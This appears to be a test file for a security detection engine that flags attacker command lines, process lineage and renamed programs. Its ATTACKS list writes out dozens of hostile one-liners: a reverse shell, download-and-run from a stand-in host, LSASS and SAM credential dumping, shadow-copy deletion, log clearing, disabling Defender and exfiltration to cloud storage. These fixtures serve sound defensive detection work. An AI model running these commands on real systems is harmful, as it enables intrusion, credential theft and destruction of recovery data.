import { COMMAND_PATTERNS, commandFacts } from './command-lines/index.ts';
import { Seen } from './seen.ts';

const facts = (command: string, more: Record<string, string> = {}) =>
  commandFacts(new Seen({ process: { command_line: command, ...more } }));
const shown = (command: string) => facts(command).map(({ kind }) => kind.split('.').at(-1));
const encoded = (text: string) => Buffer.from(text, 'utf16le').toString('base64');

/** One of each, as attackers write it. */
const ATTACKS: readonly (readonly [name: string, command: string])[] = [
  ['encoded_powershell', `powershell.exe -NoP -enc ${encoded('Write-Output "a long text"')}`],
  ['hidden_powershell', 'powershell -w hidden -File C:\\x.ps1'],
  ['download_and_run', "IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')"],
  ['download_to_memory', "(New-Object Net.WebClient).DownloadFile('http://a.example/x','x.exe')"],
  ['amsi_bypass', "[Ref].Assembly.GetType('x').GetField('amsiInitFailed','NonPublic,Static')"],
  ['mshta_script', 'mshta.exe https://a.example/x.hta'],
  ['regsvr32_remote', 'regsvr32.exe /s /n /u /i:http://a.example/x.sct scrobj.dll'],
  ['rundll32_script', 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";x'],
  ['library_in_user_folder', 'rundll32.exe C:\\Users\\ada\\AppData\\Local\\x.dll,Start'],
  ['signed_proxy', 'msiexec /q /i https://a.example/x.msi'],
  ['certutil_download', 'certutil.exe -urlcache -split -f http://a.example/x.exe x.exe'],
  ['certutil_decode', 'certutil -decode x.txt x.exe'],
  ['bits_download', 'bitsadmin /transfer job http://a.example/x.exe C:\\x.exe'],
  ['shadow_copies_deleted', 'vssadmin.exe delete shadows /all /quiet'],
  ['recovery_disabled', 'bcdedit /set {default} recoveryenabled no'],
  ['lsass_dump', 'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\x.dmp full'],
  ['registry_secrets', 'reg save hklm\\sam C:\\x'],
  ['directory_database', 'ntdsutil "ac i ntds" "ifm" "create full C:\\x" q q'],
  ['credential_tool', 'm.exe "privilege::debug" "sekurlsa::logonpasswords" exit'],
  ['passwords_searched', 'findstr /si cpassword \\\\dc\\sysvol\\*.xml'],
  ['logs_cleared', 'wevtutil cl Security'],
  ['defender_disabled', 'Set-MpPreference -DisableRealtimeMonitoring $true'],
  ['defender_exclusion', 'Add-MpPreference -ExclusionPath C:\\'],
  ['firewall_off', 'netsh advfirewall set allprofiles state off'],
  ['audit_policy_off', 'auditpol /clear /y'],
  ['odd_scheduled_task', 'schtasks /create /tn u /tr C:\\Users\\Public\\u.exe /sc minute'],
  ['scheduled_task', 'schtasks.exe /create /tn Backup /tr "C:\\Program Files\\Backup\\b.exe" /sc daily'],
  ['run_key', 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d C:\\u.exe'],
  ['subscribed_command', 'Set-WmiInstance -Class CommandLineEventConsumer -Arguments $x'],
  ['debugger_of_program', 'copy cmd.exe C:\\Windows\\System32\\sethc.exe'],
  ['odd_service', 'sc create u binPath= "cmd /c start C:\\u.exe"'],
  ['account_made_administrator', 'net localgroup administrators eve /add'],
  ['account_made', 'net user eve P4ss /add'],
  ['remote_process', 'wmic /node:10.0.0.9 process call create "cmd /c x"'],
  ['psexec', 'psexec.exe \\\\ws-77 -s cmd'],
  ['tunnel', 'netsh interface portproxy add v4tov4 listenport=8080'],
  ['directory_questioned', 'nltest /domain_trusts'],
  ['who_am_i', 'whoami /priv'],
  ['download_to_shell', 'curl -fsSL http://a.example/x.sh | bash'],
  ['decoded_to_shell', 'echo aGk= | base64 -d | sh'],
  ['reverse_shell', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
  ['run_from_temporary', 'chmod +x /tmp/x'],
  ['library_forced', 'LD_PRELOAD=/tmp/x.so ls'],
  ['crontab_written', '(crontab -l; echo "* * * * * /tmp/x") | crontab -'],
  ['keys_written', 'echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys'],
  ['passwords_read', 'cat /etc/shadow'],
  ['metadata_credentials', 'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/web'],
  ['history_removed', 'unset HISTFILE'],
  ['logs_removed', 'rm -rf /var/log/audit/audit.log'],
  ['protection_stopped', 'systemctl stop auditd'],
  ['mining', './x -o stratum+tcp://pool.example:3333'],
  ['host_escape', 'nsenter -t 1 -m -u -i -n sh'],
  ['set_user_bit', 'chmod 4755 /tmp/sh'],
  ['root_account', 'useradd -o -u 0 eve'],
  ['password_prompt', 'osascript -e display dialog "Update needs your password" default answer "" with hidden answer'],
  ['script_runs_shell', 'osascript -e \'do shell script "curl http://a.example/x"\''],
  ['keychain_read', 'security dump-keychain -d login.keychain'],
  ['gatekeeper_bypassed', 'xattr -d com.apple.quarantine /Applications/X.app'],
  ['privacy_reset', 'tccutil reset All'],
  ['shell_from_database', "EXEC xp_cmdshell 'whoami'"],
  ['administrator_of_database', 'GRANT ROLE ACCOUNTADMIN TO USER eve'],
  ['data_to_elsewhere', "COPY INTO 's3://a.example/x' FROM customers"],
  ['database_unguarded', 'ALTER ACCOUNT UNSET NETWORK_POLICY'],
  ['account_in_database', 'CREATE USER eve PASSWORD = x'],
  ['certificate_trusted', 'security add-trusted-cert -d -r trustRoot -k x ca.pem'],
  ['packed_with_password', '7z.exe a -t7z x.7z C:\\data -pSecret'],
  ['copied_to_cloud', 'rclone.exe copy C:\\data mega:x'],
  ['agent_loaded', 'launchctl load /Users/ada/Library/LaunchAgents/x.plist'],
]; // prettier-ignore

describe('command lines', () => {
  it('are known, each kind by one example at least', () => {
    const known = ATTACKS.map(([name]) => name).toSorted();
    expect(known).toEqual(COMMAND_PATTERNS.map(({ name }) => name).toSorted());
  });

  it.each(ATTACKS)('of %s are found: %s', (name, command) => {
    expect(shown(command)).toContain(name);
  });

  it.each([
    'certutil.exe -dump server.cer',
    'rundll32.exe shell32.dll,Control_RunDLL desk.cpl',
    'regsvr32 /s C:\\Windows\\System32\\msxml3.dll',
    'powershell.exe -ExecutionPolicy Bypass -File \\\\corp\\netlogon\\logon.ps1',
    'vssadmin list shadows',
    'wevtutil qe Security /c:5',
    'bcdedit /enum',
    'reg query HKLM\\Software',
    'net user ada /domain',
    'sc query windefend',
    'netsh advfirewall show allprofiles',
    'curl -O https://a.example/x.tar.gz',
    'curl https://a.example/status | grep ok',
    'base64 -d secret.txt > out.bin',
    'chmod 755 /usr/local/bin/tool',
    'chmod 0644 /tmp/x',
    'crontab -l',
    'systemctl restart rsyslog',
    'systemctl stop nginx',
    'cat /etc/passwd',
    'nc -zv db.example 5432',
    'tail -f /var/log/syslog',
    'osascript -e display notification "Backup is done"',
    'launchctl list',
    'bash -c "ls /dev"',
    'SELECT * FROM users WHERE id = 7',
    'GRANT SELECT ON orders TO ROLE reader',
    'COPY INTO orders FROM @stage/orders.csv',
  ])('that administrators use every day say nothing: %s', (command) => {
    expect(shown(command)).toEqual([]);
  });

  it('of what administrators do as well weigh little', () => {
    expect(facts('schtasks /create /tn Backup /tr C:\\b.exe /sc daily')[0]?.weight).toBeLessThan(0.2);
  });

  it('are quoted where they match, with their technique', () => {
    const [fact] = facts('cmd /c  certutil.exe -urlcache -f http://a.example/x.exe & del x');
    expect(fact).toMatchObject({
      kind: 'command.obfuscated_command.certutil_download',
      polarity: 'malicious',
      statement: 'certutil, which is for certificates, downloads a file: “certutil.exe -urlcache -f http:”.',
      techniques: ['T1105'],
    });
  });

  it('are read through their encoding and through carets', () => {
    const carried = facts(`powershell -e ${encoded("IEX (irm 'http://a.example/x')")}`);
    expect(carried.map(({ kind }) => kind)).toContain('command.obfuscated_command.download_and_run');
    expect(carried.map(({ statement }) => statement)).toContainEqual(
      expect.stringMatching(/“IEX \(irm” \(decoded\)\.$/),
    );
    expect(shown('v^ss^admin delete shadows')).toContain('shadow_copies_deleted');
  });

  it('are looked for where commands stand, and not in prose', () => {
    const text = 'vssadmin delete shadows';
    const kinds = (raw: Record<string, string>) => commandFacts(new Seen(raw)).length;
    expect([
      kinds({ CommandLine: text }),
      kinds({ processCmdLine: text }),
      kinds({ ScriptBlockText: text }),
      kinds({ description: text }),
      kinds({ ruleName: text, title: text }),
    ]).toEqual([1, 1, 1, 0, 0]);
  });
});

describe('a program under another name', () => {
  it.each([
    ['wscript.exe', 'C:\\x\\update.exe', 1],
    ['wscript.exe', 'C:\\Windows\\System32\\wscript.exe', 0],
    ['PsExec.exe', 'C:\\x\\PsExec64.exe', 0],
    ['Setup.exe', 'C:\\x\\vendor-setup-1.2.exe', 0],
  ])('%s as %s', (made, executable, found) => {
    const seen = new Seen({ OriginalFileName: made }, { process: { executable } });
    expect(commandFacts(seen)).toHaveLength(found);
  });
});

describe('who started whom', () => {
  const lineage = (parent: string, name: string) =>
    commandFacts(new Seen({}, { process: { name, parent: { executable: parent } } }));

  it.each([
    ['C:\\Program Files\\Office\\WINWORD.EXE', 'powershell.exe', 'document_starts_shell'],
    ['C:\\Windows\\System32\\inetsrv\\w3wp.exe', 'cmd.exe', 'server_starts_shell'],
    ['/usr/sbin/nginx', 'sh', 'server_starts_shell'],
    ['wscript.exe', 'powershell.exe', 'script_host_starts_shell'],
    ['chrome.exe', 'mshta.exe', 'browser_starts_shell'],
    ['explorer.exe', 'svchost.exe', 'system_process_of_another'],
  ])('speaks against %s → %s', (parent, child, name) => {
    expect(lineage(parent, child).map(({ kind }) => kind.split('.').at(-1))).toEqual([name]);
  });

  it.each([
    ['explorer.exe', 'cmd.exe'],
    ['services.exe', 'svchost.exe'],
    ['WINWORD.EXE', 'splwow64.exe'],
    ['bash', 'nginx'],
  ])('says nothing of %s → %s', (parent, child) => {
    expect(lineage(parent, child)).toEqual([]);
  });
});
